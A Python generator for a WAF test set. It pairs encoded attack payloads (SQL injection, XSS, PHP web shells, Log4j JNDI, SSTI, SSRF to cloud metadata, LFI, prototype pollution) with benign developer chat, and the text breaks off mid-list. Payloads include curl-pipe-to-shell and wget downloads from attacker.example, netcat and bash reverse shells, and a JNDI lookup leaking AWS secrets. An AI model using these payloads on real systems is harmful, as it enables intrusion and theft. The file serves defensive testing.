"""Blind set "thirtythird": the same classic payloads seen through the encodings real clients and attackers
use, so that the set asks "does the WAF see through the encoding?".

Angle: about eighty base payloads across SQL injection, XSS, OS command injection, PHP injection, Java
(JNDI, OGNL, SpEL, serialized objects, Spring property binding), generic (Node.js code injection, prototype
pollution, SSRF), server-side template injection and local file inclusion. Each is sent once plainly and then
in three to eight encodings. The sub-family of a record is its encoding: `plain`, `url` (every byte
percent-encoded once, in a query or form, which the server decodes once), `url2` (double percent-encoding, in
a path segment or a `data` parameter an application decodes a second time), `uenc` (IIS-style %uXXXX),
`overlong` (two-byte UTF-8 overlong sequences such as %c0%a7 for a quote), `jsonu` / `jsonuall` (JSON \\u
escapes of the special characters / of every character, inside JSON strings, which the JSON parser decodes),
`b64` (the whole payload base64-encoded in a field that looks like it takes base64), `plus` ('+' for space in
a query or form), `fw` (Unicode full-width look-alikes, for applications that NFKC-normalise) and hand-written
family variants landing decoded: `case` (mixed case where the target language ignores case), `comment`
(/**/, ${IFS}, '/' in tags as separators), `ws` (tab, vertical tab, form feed, CR, LF as spaces), `linecont`
(shell backslash-newline), `nul` (a NUL byte before the payload's tail), `hex` (0x literals, \\x escapes in PHP
/ shell / Jinja strings), `js` (JavaScript \\x / \\u / \\u{} escapes, decoded by the JavaScript engine),
`html` (HTML entities inside an attribute, decoded by the browser), `nested` (Log4j lookups), `ip` (other
spellings of an IP address), `quote` (shell quote insertion), `path` (redundant ./ and // in a path). Every
encoding is put where an application really decodes it: a %27 inside a JSON string stays %27 for the app, so
percent-encodings go in query strings, form bodies and paths, \\u escapes in JSON bodies only.

Benign half: developers pasting encoded strings into Slack (signed events, also saved as profile bios), links
with percent-encoded names, prose about encodings, and the same placements carrying what real clients send:
percent-encoded names, base64 tokens and images, JSON \\u escapes of accented names, HTML entities in text,
literal '+' in JSON values, full-width Japanese text, tabs in pasted addresses.

Authorship and independence: written from general knowledge of each family and of the encodings, without
reading the repository's WAF rules, any ruleset or its regression tests, other generators' payload lists or
public payload lists; measured once on the unchanged code and never changed after seeing what the WAF blocks.
Deterministic (no clock, no randomness).
"""

from __future__ import annotations

import base64
import gzip
import urllib.parse
from collections.abc import Iterator
from typing import Any

from .family_gen import UA, _form, _get, _json, _query
from .family_gen_blind_php import _place, chat_and_bio, links_and_prose
from .records import print_records

NAME = "thirtythird"

# Generic encodings computed from the plain payload (None in a base's variant table); any other variant name
# carries its hand-written decoded value.
GENERIC = ("url", "url2", "uenc", "overlong", "jsonu", "jsonuall", "b64", "plus", "fw")

# (category, shape, plain payload, {encoding: None (generic) or hand-written decoded value})
BASES: list[tuple[str, str, str, dict[str, str | None]]] = [
    # ---------------------------------------------------------------- SQL injection
    ("sqli", "tautology", "' OR '1'='1' -- ", {
        "url": None, "url2": None, "uenc": None, "plus": None, "case": "' oR '1'='1' -- "}),
    ("sqli", "union", "1 UNION SELECT username, password FROM users-- -", {
        "url": None, "jsonu": None, "case": "1 uNiOn SeLeCt username, password fRoM users-- -",
        "comment": "1/**/UNION/**/SELECT/**/username,password/**/FROM/**/users--/**/-",
        "ws": "1\tUNION\nSELECT\x0busername,password\x0cFROM\rusers-- -"}),
    ("sqli", "comment", "admin'-- ", {"overlong": None, "uenc": None, "jsonu": None, "url2": None}),
    ("sqli", "time", "1 AND SLEEP(5)", {
        "plus": None, "url": None, "case": "1 aNd SlEeP(5)", "comment": "1/**/AND/**/SLEEP(5)"}),
    ("sqli", "stacked", "'; DROP TABLE users; --", {
        "url": None, "jsonuall": None, "b64": None, "ws": "';\nDROP\tTABLE\tusers;\n--"}),
    ("sqli", "error", "1' AND extractvalue(1, concat(0x7e, (SELECT version()))) -- ", {
        "url": None, "jsonu": None, "case": "1' AnD ExTrAcTvAlUe(1, CoNcAt(0x7e, (sElEcT VeRsIoN()))) -- ",
        "nul": "1\x00' AND extractvalue(1, concat(0x7e, (SELECT version()))) -- "}),
    ("sqli", "union-str", "' UNION SELECT 'admin', 'x' -- ", {
        "hex": "' UNION SELECT 0x61646d696e, 0x78 -- ", "url": None, "fw": None, "overlong": None}),
    ("sqli", "or-num", "1 OR 1=1", {
        "plus": None, "url2": None, "uenc": None, "comment": "1/**/OR/**/1=1", "jsonu": None}),
    ("sqli", "mssql", "1; WAITFOR DELAY '0:0:5'--", {
        "url": None, "case": "1; wAiTfOr DeLaY '0:0:5'--", "ws": "1;\tWAITFOR\nDELAY\x0c'0:0:5'--", "b64": None}),
    ("sqli", "pgsql", "' OR pg_sleep(5)--", {"url": None, "jsonu": None, "fw": None, "url2": None}),
    ("sqli", "orderby", "1' ORDER BY 3-- -", {
        "url": None, "plus": None, "comment": "1'/**/ORDER/**/BY/**/3--/**/-", "case": "1' oRdEr By 3-- -"}),
    ("sqli", "blind", "admin' AND SUBSTRING(password,1,1)='a", {
        "url": None, "jsonu": None, "hex": "admin' AND SUBSTRING(password,1,1)=0x61", "uenc": None}),
    ("sqli", "schema", "1 AND (SELECT COUNT(*) FROM information_schema.tables)>0", {
        "url": None, "case": "1 AnD (sElEcT cOuNt(*) FrOm information_schema.tables)>0",
        "comment": "1/**/AND/**/(SELECT/**/COUNT(*)/**/FROM/**/information_schema.tables)>0", "b64": None}),
    # ---------------------------------------------------------------- XSS
    ("xss", "script", "<script>alert(1)</script>", {
        "url": None, "url2": None, "uenc": None, "overlong": None, "jsonu": None,
        "html": "&lt;script&gt;alert(1)&lt;/script&gt;", "fw": None, "case": "<ScRiPt>alert(1)</sCrIpT>",
        "nul": "<script>\x00alert(1)</script>"}),
    ("xss", "img", "<img src=x onerror=alert(document.cookie)>", {
        "url": None, "case": "<IMG SRC=x OnErRoR=alert(document.cookie)>",
        "ws": "<img\nsrc=x\tonerror=alert(document.cookie)>", "comment": "<img/src=x/onerror=alert(document.cookie)>",
        "jsonu": None, "js": "<img src=x onerror=\\u0061lert(document.cookie)>"}),
    ("xss", "svg", "<svg onload=alert(1)>", {
        "url": None, "url2": None, "fw": None, "jsonuall": None, "ws": "<svg\x0conload=alert(1)>"}),
    ("xss", "jsuri", "javascript:alert(1)", {
        "html": "javascript&#58;alert(1)", "html2": "&#x6a;avascript:alert(1)", "ws": "java\tscript:alert(1)",
        "case": "JaVaScRiPt:alert(1)", "url2": None, "jsonu": None}),
    ("xss", "breakout", "\"><script>alert(String.fromCharCode(88,83,83))</script>", {
        "url": None, "uenc": None, "overlong": None, "jsonu": None}),
    ("xss", "iframe", "<iframe src=\"javascript:alert(1)\"></iframe>", {
        "html": "<iframe src=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\"></iframe>",
        "url": None, "case": "<IfRaMe SrC=\"javascript:alert(1)\"></iFrAmE>", "b64": None}),
    ("xss", "body", "<body onload=alert('xss')>", {
        "url": None, "jsonu": None, "case": "<BoDy OnLoAd=alert('xss')>", "js": "<body onload=alert('\\x78ss')>"}),
    ("xss", "anchor", "<a href=\"javascript:eval(atob('YWxlcnQoMSk='))\">x</a>", {
        "url": None, "html": "<a href=\"javascript&colon;eval(atob('YWxlcnQoMSk='))\">x</a>", "jsonu": None,
        "fw": None}),
    ("xss", "jsstring", "'-alert(1)-'", {"url": None, "jsonu": None, "uenc": None, "url2": None}),
    ("xss", "details", "<details open ontoggle=alert(1)>", {
        "url": None, "ws": "<details\topen\nontoggle=alert(1)>", "case": "<DeTaIlS oPeN oNtOgGlE=alert(1)>",
        "jsonuall": None}),
    ("xss", "scriptsrc", "<script src=//evil.example/x.js></script>", {
        "url": None, "url2": None, "overlong": None, "fw": None}),
    ("xss", "input", "<input autofocus onfocus=alert(1)>", {
        "url": None, "jsonu": None, "case": "<InPuT AuToFoCuS OnFoCuS=alert(1)>",
        "comment": "<input/autofocus/onfocus=alert(1)>"}),
    ("xss", "eval", "<img src=x onerror=\"eval('al'+'ert(1)')\">", {
        "js": "<img src=x onerror=\"eval('\\x61\\x6c\\x65\\x72\\x74(1)')\">",
        "js2": "<img src=x onerror=\\u{61}lert(1)>", "url": None, "jsonu": None}),
    # ---------------------------------------------------------------- OS command injection
    ("rce", "passwd", ";cat /etc/passwd", {
        "url": None, "url2": None, "uenc": None, "ws": ";cat\t/etc/passwd", "comment": ";cat${IFS}/etc/passwd",
        "linecont": ";ca\\\nt /etc/passwd"}),
    ("rce", "pipe", "| id", {"url": None, "plus": None, "jsonu": None, "overlong": None}),
    ("rce", "subst", "$(whoami)", {"url": None, "jsonu": None, "b64": None, "fw": None}),
    ("rce", "backtick", "`uname -a`", {"url": None, "uenc": None, "ws": "`uname\t-a`", "jsonuall": None}),
    ("rce", "curl", "; curl http://attacker.example/s.sh | sh", {
        "url": None, "plus": None, "ws": "\ncurl http://attacker.example/s.sh|sh",
        "comment": ";curl${IFS}http://attacker.example/s.sh|sh", "b64": None}),
    ("rce", "wget", "&& wget -O /tmp/x http://attacker.example/x", {
        "url": None, "url2": None, "ws": "&&\twget\t-O\t/tmp/x\thttp://attacker.example/x", "jsonu": None}),
    ("rce", "netcat", "; nc -e /bin/sh 203.0.113.5 4444", {
        "url": None, "hex": "; $(printf '\\x6e\\x63') -e /bin/sh 203.0.113.5 4444",
        "linecont": "; n\\\nc -e /bin/sh 203.0.113.5 4444", "jsonu": None, "b64": None}),
    ("rce", "b64pipe", "; echo aWQ= | base64 -d | sh", {"url": None, "plus": None, "overlong": None, "jsonu": None}),
    ("rce", "ping", "|| ping -c 3 127.0.0.1", {
        "url": None, "uenc": None, "ws": "||\tping\t-c\t3\t127.0.0.1", "plus": None}),
    ("rce", "windows", "& type C:\\Windows\\win.ini", {
        "url": None, "case": "& TyPe C:\\WINDOWS\\Win.INI", "jsonu": None, "url2": None}),
    ("rce", "revshell", "; bash -i >& /dev/tcp/203.0.113.5/4444 0>&1", {
        "url": None, "b64": None, "jsonu": None,
        "comment": ";bash${IFS}-i${IFS}>&${IFS}/dev/tcp/203.0.113.5/4444${IFS}0>&1",
        "quote": "; b'a's\"h\" -i >& /dev/tcp/203.0.113.5/4444 0>&1"}),
    # ---------------------------------------------------------------- PHP injection
    ("php", "tag", "<?php system($_GET['c']); ?>", {
        "url": None, "url2": None, "jsonu": None, "b64": None, "case": "<?PhP SyStEm($_GET['c']); ?>", "fw": None}),
    ("php", "system", "system('id');", {
        "case": "SyStEm('id');", "comment": "system/**/('id');", "url": None, "jsonu": None,
        "hex": "\"\\x73\\x79\\x73\\x74\\x65\\x6d\"('id');"}),
    ("php", "filter", "php://filter/convert.base64-encode/resource=index.php", {
        "url": None, "url2": None, "case": "PhP://FiLtEr/convert.base64-encode/resource=index.php",
        "overlong": None, "jsonu": None}),
    ("php", "eval", "eval($_POST['x']);", {
        "url": None, "case": "EvAl($_POST['x']);", "ws": "eval\t(\n$_POST['x']);", "jsonu": None, "b64": None}),
    ("php", "serialized", "O:8:\"stdClass\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}", {
        "url": None, "b64": None, "jsonu": None, "url2": None}),
    ("php", "data", "data://text/plain;base64,PD9waHAgcGhwaW5mbygpOyA/Pg==", {
        "url": None, "case": "DaTa://text/plain;base64,PD9waHAgcGhwaW5mbygpOyA/Pg==", "jsonu": None, "url2": None}),
    ("php", "passthru", "passthru('cat /etc/passwd');", {
        "url": None, "comment": "passthru/**/('cat /etc/passwd');", "uenc": None,
        "case": "PaSsThRu('cat /etc/passwd');", "jsonuall": None}),
    ("php", "assert", "assert($_REQUEST['a']);", {
        "url": None, "case": "AsSeRt($_REQUEST['a']);", "jsonu": None, "b64": None}),
    ("php", "shorttag", "<?= `$_GET[0]` ?>", {"url": None, "overlong": None, "jsonu": None, "fw": None}),
    # ---------------------------------------------------------------- Java
    ("java", "jndi", "${jndi:ldap://attacker.example/a}", {
        "url": None, "url2": None, "uenc": None, "jsonu": None, "jsonuall": None,
        "case": "${JnDi:LdAp://attacker.example/a}", "nested": "${${lower:j}ndi:ldap://attacker.example/a}"}),
    ("java", "jndi-rmi", "${jndi:rmi://attacker.example:1099/Obj}", {
        "url": None, "b64": None, "overlong": None, "jsonu": None}),
    ("java", "ognl", "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}", {
        "url": None, "url2": None, "jsonu": None, "ws": "%{(#rt=@java.lang.Runtime@getRuntime())\n.(#rt.exec('id'))}"}),
    ("java", "spel", "${T(java.lang.Runtime).getRuntime().exec('id')}", {
        "url": None, "jsonu": None, "ws": "${T(java.lang.Runtime)\n.getRuntime()\n.exec('id')}", "uenc": None,
        "b64": None}),
    ("java", "runtime", "java.lang.Runtime.getRuntime().exec(\"id\")", {
        "url": None, "jsonu": None, "js": "java.lang.\\u0052untime.getRuntime().exec(\"id\")"}),
    ("java", "serialized", "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTaMLT7P4KxAwACSQAEc2l6ZUwACmNvbXBhcmF0b3J0"
                           "ABZMamF2YS91dGlsL0NvbXBhcmF0b3I7", {
        "url": None, "hex": "aced0005737200176a6176612e7574696c2e5072696f72697479517565756594da30b4fb3f82b103",
        "gzb64": "", "jsonu": None}),
    ("java", "process", "new java.lang.ProcessBuilder(\"bash\",\"-c\",\"id\").start()", {
        "url": None, "jsonu": None, "b64": None,
        "ws": "new\tjava.lang.ProcessBuilder(\"bash\",\"-c\",\"id\")\n.start()"}),
    ("java", "spring", "class.module.classLoader.resources.context.parent.pipeline.first.pattern=%{c}i", {
        "url": None, "url2": None, "jsonu": None, "uenc": None}),
    ("java", "jndi-dns", "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.attacker.example}", {
        "url": None, "jsonu": None, "nested": "${${::-j}${::-n}${::-d}${::-i}:dns://${env:AWS_SECRET_ACCESS_KEY}.attacker.example}",
        "b64": None}),
    # ---------------------------------------------------------------- generic: Node.js, SSRF
    ("generic", "node-require", "require('child_process').exec('id')", {
        "url": None, "jsonu": None, "js": "require('\\x63hild_process').exec('id')",
        "js2": "require('\\u{63}hild_process').exec('id')", "b64": None,
        "comment": "require/**/('child_process')/**/.exec('id')"}),
    ("generic", "node-ctor",
     "this.constructor.constructor('return process')().mainModule.require('child_process').execSync('id')", {
        "url": None, "jsonu": None,
        "js": "this.constructor.constructor('return \\x70rocess')().mainModule"
              ".require('child_\\x70rocess').execSync('id')",
        "b64": None}),
    ("generic", "node-buffer", "eval(Buffer.from('" + base64.b64encode(b'require("child_process").execSync("id")')
     .decode() + "','base64').toString())", {"url": None, "jsonu": None, "uenc": None}),
    ("generic", "ssrf-aws", "http://169.254.169.254/latest/meta-data/", {
        "url": None, "url2": None, "ip": "http://2852039166/latest/meta-data/",
        "hex": "http://0xa9fea9fe/latest/meta-data/", "jsonu": None,
        "fw": "http://\uff11\uff16\uff19.\uff12\uff15\uff14.\uff11\uff16\uff19.\uff12\uff15\uff14/latest/meta-data/"}),
    ("generic", "ssrf-local", "http://127.0.0.1:6379/", {
        "hex": "http://0x7f000001:6379/", "ip": "http://2130706433:6379/", "octal": "http://0177.0.0.1:6379/",
        "url": None, "ipv6": "http://[::ffff:127.0.0.1]:6379/"}),
    ("generic", "gopher", "gopher://127.0.0.1:6379/_FLUSHALL", {
        "url": None, "url2": None, "case": "GoPhEr://127.0.0.1:6379/_FLUSHALL", "jsonu": None}),
    ("generic", "file", "file:///etc/passwd", {"url": None, "case": "FiLe:///etc/passwd", "jsonu": None, "url2": None}),
    ("generic", "gcp", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token", {
        "url": None, "case": "http://METADATA.Google.INTERNAL/computeMetadata/v1/instance/service-accounts/default/token",
        "jsonu": None, "url2": None}),
    # ---------------------------------------------------------------- template injection
    ("ssti", "jinja-os", "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}", {
        "url": None, "jsonu": None,
        "hex": "{{config.__class__.__init__.__globals__['\\x6f\\x73'].popen('id').read()}}", "b64": None,
        "ws": "{{\tconfig.__class__.__init__.__globals__['os']\n.popen('id').read()\t}}"}),
    ("ssti", "jinja-mro", "{{''.__class__.__mro__[1].__subclasses__()}}", {
        "url": None, "uenc": None, "jsonu": None,
        "hex": "{{''|attr('\\x5f\\x5fclass\\x5f\\x5f')|attr('\\x5f\\x5fmro\\x5f\\x5f')}}"}),
    ("ssti", "jinja-import", "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}", {
        "url": None, "jsonu": None, "b64": None,
        "ws": "{{ request.application\n.__globals__.__builtins__\n.__import__('os').popen('id').read() }}"}),
    ("ssti", "freemarker", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}", {
        "url": None, "jsonu": None, "uenc": None, "b64": None}),
    ("ssti", "twig", "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}", {
        "url": None, "jsonu": None, "url2": None}),
    ("ssti", "erb", "<%= `id` %>", {"url": None, "jsonu": None, "overlong": None, "uenc": None}),
    ("ssti", "velocity", "#set($x=$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"id\"))", {
        "url": None, "jsonu": None, "b64": None}),
    ("ssti", "tornado", "{% import os %}{{ os.system('id') }}", {"url": None, "jsonu": None, "plus": None}),
    ("ssti", "smarty", "{php}echo `id`;{/php}", {"url": None, "jsonu": None, "url2": None}),
    # ---------------------------------------------------------------- local file inclusion
    ("lfi", "passwd", "../../../../etc/passwd", {
        "url": None, "url2": None, "uenc": None, "overlong": None, "nul": "../../../../etc/passwd\x00.png",
        "dots": "....//....//....//....//etc/passwd", "backslash": "..\\..\\..\\..\\etc\\passwd"}),
    ("lfi", "wininit", "..\\..\\..\\windows\\win.ini", {
        "url": None, "url2": None, "overlong": None, "case": "..\\..\\..\\WINDOWS\\Win.INI", "jsonu": None}),
    ("lfi", "environ", "/proc/self/environ", {
        "url": None, "jsonu": None, "url2": None, "path": "/proc/./self/./environ", "path2": "//proc//self//environ"}),
    ("lfi", "shadow", "/etc/shadow", {"url": None, "jsonu": None, "path": "/etc/./shadow", "path2": "/./etc//shadow"}),
    ("lfi", "log", "../../../../var/log/apache2/access.log", {
        "url": None, "url2": None, "overlong": None, "nul": "../../../../var/log/apache2/access.log\x00"}),
    ("lfi", "config", "../../config/database.yml", {"url": None, "url2": None, "jsonu": None, "uenc": None}),
    ("lfi", "abs", "/var/www/html/../../../etc/passwd", {"url": None, "jsonuall": None, "overlong": None}),
    ("lfi", "webinf", "..;/..;/WEB-INF/web.xml", {"url": None, "url2": None, "jsonu": None}),
]


# ------------------------------------------------------------------ encoders (the wire form of a value)
def _pct(ch: str) -> str:
    return "".join(f"%{b:02X}" for b in ch.encode("utf-8"))


def enc_url(p: str) -> str:
    """Every byte percent-encoded once (the server decodes it once)."""
    return "".join(_pct(c) for c in p)


def enc_url2(p: str) -> str:
    """Special characters percent-encoded twice (%2527): for a value the application decodes again."""
    return urllib.parse.quote(p, safe="").replace("%", "%25")


def enc_uenc(p: str) -> str:
    """IIS-style %uXXXX for every character that is not a letter or digit."""
    return "".join(c if c.isascii() and c.isalnum() else f"%u{ord(c):04X}" for c in p)


def enc_overlong(p: str) -> str:
    """Two-byte overlong UTF-8 (%c0%a7 for ') for every character that is not a letter or digit."""
    out = []
    for c in p:
        o = ord(c)
        if c.isascii() and c.isalnum():
            out.append(c)
        elif o < 0x80:
            out.append(f"%{0xC0 | (o >> 6):02x}%{0x80 | (o & 0x3F):02x}")
        else:
            out.append(_pct(c))
    return "".join(out)


def enc_jsonu(p: str, every: bool = False) -> str:
    """The inside of a JSON string: \\uXXXX for special characters (every one with `every`)."""
    return "".join(c if (c.isascii() and c.isalnum() and not every) else f"\\u{ord(c):04x}" for c in p)


def enc_plus(p: str) -> str:
    return urllib.parse.quote_plus(p, safe="")


def enc_fw(p: str) -> str:
    """Full-width look-alikes of every printable ASCII character but the space (NFKC folds them back)."""
    return "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in p)


# ------------------------------------------------------------------ placements
def _raw_query(name: str, wire: str, path: str = "/api/users") -> dict[str, Any]:
    return _get(f"{path}?{name}={wire}&page=1")


def _raw_form(uri: str, fields: list[tuple[str, str]]) -> dict[str, Any]:
    return {**_form(uri, []), "body": "&".join(f"{k}={v}" for k, v in fields)}


def _raw_json(uri: str, name: str, inner: str) -> dict[str, Any]:
    body = '{"email": "a@example.org", "' + name + '": "' + inner + '"}'
    return {**_json(uri, {}), "body": body}


def _me(value: str) -> dict[str, Any]:
    return _form("/me/location", [("csrf_token", "t0k3n"), ("place", value)])


def _oauth(value: str) -> dict[str, Any]:
    return _form("/oauth/token", [("grant_type", "client_credentials"), ("client_id", "demo"), ("scope", value)])


DECODED_PLACES = ["query", "form", "json", "me", "cookie", "header", "oauth"]
NAMES = ["q", "name", "search", "filter", "file", "url", "data", "callback"]


def _safe_for_headers(v: str) -> bool:
    return v.isascii() and all(" " <= c <= "~" for c in v)


def decoded_places(i: int, value: str) -> list[tuple[str, dict[str, Any]]]:
    """Three placements for a value the application sees as is (the helpers encode it for the wire);
    cookie and header only for printable ASCII."""
    places = DECODED_PLACES if _safe_for_headers(value) else ["query", "form", "json", "me", "oauth"]
    out = []
    for k in range(3):
        place = places[(i + k) % len(places)]
        name = NAMES[(i + k) % len(NAMES)]
        if place == "me":
            out.append(("form:/me/location", _me(value)))
        elif place == "oauth":
            out.append(("form:/oauth/token", _oauth(value)))
        else:
            out.append((place, _place(place, name, value)))
    return out


def generic_places(enc: str, i: int, p: str) -> list[tuple[str, dict[str, Any]]]:
    name = NAMES[i % len(NAMES)]
    if enc == "url":
        w = enc_url(p)
        return [("query", _raw_query(name, w)),
                ("form", _raw_form("/admin/users/search", [("csrf_token", "t0k3n"), (name, w)])),
                ("form:/me/location", _raw_form("/me/location", [("csrf_token", "t0k3n"), ("place", w)]))]
    if enc == "url2":
        w = enc_url2(p)
        return [("path", _get(f"/api/files/{w}")), ("query", _raw_query("data", w))]
    if enc == "uenc":
        w = enc_uenc(p)
        return [("query", _raw_query(name, w)),
                ("form", _raw_form("/admin/users/search", [("csrf_token", "t0k3n"), (name, w)]))]
    if enc == "overlong":
        w = enc_overlong(p)
        return [("query", _raw_query(name, w)),
                ("form", _raw_form("/admin/users/search", [("csrf_token", "t0k3n"), (name, w)])),
                ("path", _get(f"/api/files/{w}"))]
    if enc in ("jsonu", "jsonuall"):
        inner = enc_jsonu(p, every=enc == "jsonuall")
        return [("json", _raw_json("/api/users", name, inner)),
                ("json:/api/search", _raw_json("/api/search", "query", inner)),
                ("json:filter", _raw_json("/api/users/42", "filter", inner))]
    if enc == "b64":
        b = base64.b64encode(p.encode()).decode()
        return [("query", _get(_query("/api/users", [("data", b), ("page", "1")]))),
                ("form", _form("/admin/users/search", [("csrf_token", "t0k3n"), ("payload", b)])),
                ("json", _json("/api/users", {"email": "a@example.org", "data_b64": b}))]
    if enc == "plus":
        w = enc_plus(p)
        return [("query", _raw_query(name, w)),
                ("form", _raw_form("/admin/users/search", [("csrf_token", "t0k3n"), (name, w)]))]
    if enc == "fw":
        v = enc_fw(p)
        return [("query", _get(_query("/api/users", [(name, v), ("page", "1")]))),
                ("json", _json("/api/users", {"email": "a@example.org", name: v}))]
    raise ValueError(enc)


def _wire(enc: str, p: str) -> str:
    """The payload as recorded: the encoded form for generic encodings."""
    return {"url": enc_url, "url2": enc_url2, "uenc": enc_uenc, "overlong": enc_overlong, "jsonu": enc_jsonu,
            "jsonuall": lambda s: enc_jsonu(s, True), "b64": lambda s: base64.b64encode(s.encode()).decode(),
            "plus": enc_plus, "fw": enc_fw}[enc](p)


def _gzb64(b64: str) -> str:
    """A base64 serialized object gzip-compressed and base64-encoded again (mtime fixed: deterministic)."""
    return base64.b64encode(gzip.compress(base64.b64decode(b64 + "=" * (-len(b64) % 4)), mtime=0)).decode()


def variants() -> Iterator[tuple[str, str, str, str, bool]]:
    """(category, shape, encoding, value, generic) for every base and encoding, plain first."""
    for cat, shape, plain, encs in BASES:
        yield cat, shape, "plain", plain, False
        for enc, hand in encs.items():
            if hand is None:
                yield cat, shape, enc, plain, True
            elif enc == "gzb64":
                yield cat, shape, enc, _gzb64(plain), False
            else:
                yield cat, shape, enc, hand, False


def attacks() -> Iterator[dict[str, Any]]:
    n = 0
    for i, (cat, shape, enc, value, generic) in enumerate(variants()):
        places = generic_places(enc, i, value) if generic else decoded_places(i, value)
        shown = _wire(enc, value) if generic else value
        for placement, rec in places:
            n += 1
            yield {**rec, "id": f"{NAME}-{cat}-{enc}-{n:04d}", "category": cat, "sub": enc, "shape": shape,
                   "placement": placement, "payload": shown}
    # prototype pollution: key names escaped in a query (decoded once) and in JSON (\u escapes)
    pq = ["__proto__[isAdmin]=true", "%5F%5Fproto%5F%5F%5BisAdmin%5D=true", "__pro%74o__[isAdmin]=true",
          "constructor%5Bprototype%5D%5Badmin%5D=1", "a[__proto__][role]=admin", "a%5B__proto__%5D%5Brole%5D=admin"]
    for k, qs in enumerate(pq):
        for path in ("/api/users?", "/api/users?page=2&"):
            n += 1
            yield {**_get(path + qs), "id": f"{NAME}-generic-pollution-{n:04d}", "category": "generic",
                   "sub": "plain" if k in (0, 4) else "url", "shape": "pollution", "placement": "query", "payload": qs}
    pj = ['{"__proto__": {"isAdmin": true}}',
          '{"\\u005f\\u005fproto\\u005f\\u005f": {"isAdmin": true}}',
          '{"__pro\\u0074o__": {"isAdmin": true}}',
          '{"constructor": {"prototype": {"polluted": 1}}}',
          '{"constr\\u0075ctor": {"prot\\u006ftype": {"polluted": 1}}}',
          '{"user": {"\\u005f_proto_\\u005f": {"role": "admin"}}}']
    for k, body in enumerate(pj):
        for uri in ("/api/users", "/api/users/42"):
            n += 1
            yield {**_json(uri, {}), "body": body, "id": f"{NAME}-generic-pollution-{n:04d}", "category": "generic",
                   "sub": "plain" if k in (0, 3) else "jsonu", "shape": "pollution", "placement": "json",
                   "payload": body}


# ------------------------------------------------------------------ benign
SLACK_TEXTS = [
    "heads up: the search box now URL-encodes quotes, so O'Neil shows up as O%27Neil in the logs",
    "why does the redirect double-encode? I see %2520 instead of %20 in the Location header",
    "IIS used to accept %u0027 style escapes, we dropped that server years ago",
    "overlong UTF-8 like %c0%af should be rejected by the decoder, the unit test covers it",
    "json.dumps escapes non-ASCII as \\u00e9 unless ensure_ascii=False",
    "the email template shows &amp;amp; because we escape twice, fix in the mailer",
    "HTML entity cheat sheet: &lt; &gt; &amp; &quot; &#39; pinned in #frontend",
    "the token is base64, decode it with `base64 -d` and you get the JSON header",
    "mixed case in the SQL style guide: keywords upper case please, SELECT not select",
    "full-width digits ０１２ break the phone field, normalise with NFKC before validating",
    "we strip NUL bytes from uploads now; the CSV parser choked on \\0",
    "tabs vs spaces again, the linter wants spaces in YAML",
    "the migration comments use /* */ blocks, keep them short",
    "line continuation with a backslash at the end of the Dockerfile RUN line",
    "in query strings a + means space, in JSON it is just a plus sign",
    "c++ devs: the +1 on the proposal means yes",
    "hex colour for the brand is 0x1F6FEB, or #1f6feb in CSS",
    "the script tag for analytics is loaded async now",
    "quick SQL: select id, name from users where team = 'core' order by name",
    "the union of both lists is in the sheet, select the rows you need",
    "our onboarding doc says: cat the README, then run make",
    "the wget mirror of the docs site finished overnight",
    "ping me after lunch; curl the health endpoint if you want to check",
    "remember to escape backslashes in Windows paths like C:\\Users\\ann\\Desktop",
    "the system prompt for the bot is in config/prompts.yml",
    "template variables look like {{ user.name }} in the Jinja templates",
    "the error page template shows ${status} when the variable is missing",
    "java.lang.NullPointerException again in the billing job, stack trace in the ticket",
    "log4j config lives in log4j2.xml, pattern layout %d{ISO8601} %-5p %c - %m%n",
    "require('dotenv').config() at the top of server.js, then read process.env.PORT",
    "the constructor takes an options object, see the TypeScript types",
    "the file lives at ../common/styles/theme.css relative to the component",
    "nginx config: location /static/ { alias /var/www/static/; }",
    "metadata endpoint for the VM is in the cloud console, don't hardcode it",
    "the webhook URL is https://hooks.example.com/incoming?token=abc%3D%3D",
    "base64 image was data:image/png;base64,iVBORw0KGgo= but got truncated",
    "emoji in names, e.g. Zoë and José, come through as \\u00eb and \\u00e9 in the export",
    "the price filter sends min=10&max=20 and the API decodes it once",
    "the PHP 8 upgrade broke the <?= short echo tags in two views",
    "a:hover and a:focus styles need the same outline",
    "the import of ../../utils breaks when the bundler resolves symlinks",
    "percent-encoding guide: space is %20, slash is %2F, quote is %27, percent is %25",
    "the HTML sanitizer turns <b> into &lt;b&gt; for plain-text fields",
    "utf-8 BOM \\ufeff at the start of the CSV confuses the parser",
    "ORDER BY name ASC on the report, and LIMIT 50",
    "the shell script uses ${HOME}/.config, works on mac and linux",
]
PUBLIC_URLS = [
    "https://en.wikipedia.org/wiki/Percent-encoding",
    "https://en.wikipedia.org/wiki/Base64",
    "https://en.wikipedia.org/wiki/UTF-8#Overlong_encodings",
    "https://developer.mozilla.org/en-US/docs/Glossary/Entity",
    "https://developer.mozilla.org/en-US/docs/Web/JavaScript/Reference/Global_Objects/encodeURIComponent",
    "https://www.rfc-editor.org/rfc/rfc3986#section-2.1",
    "https://www.rfc-editor.org/rfc/rfc8259#section-7",
    "https://unicode.org/reports/tr15/",
    "https://www.google.com/search?q=percent+encoding+%27quote%27",
    "https://www.google.com/maps/search/Caf%C3%A9+de+Flore,+Paris",
    "https://example.com/files/Quarterly%20Report%20(Final).pdf",
    "https://example.com/people/O%27Neil",
    "https://shop.example.com/search?q=t-shirt+%26+hoodie&sort=price",
    "https://example.org/ja/%E6%9D%B1%E4%BA%AC",
    "https://cdn.example.com/img/logo.png?v=2&w=200&h=100",
    "https://docs.python.org/3/library/urllib.parse.html#urllib.parse.quote",
    "https://docs.python.org/3/library/base64.html",
    "https://nodejs.org/api/buffer.html#buffers-and-character-encodings",
    "https://github.com/acme/app/blob/main/docs/encoding.md#json-escapes",
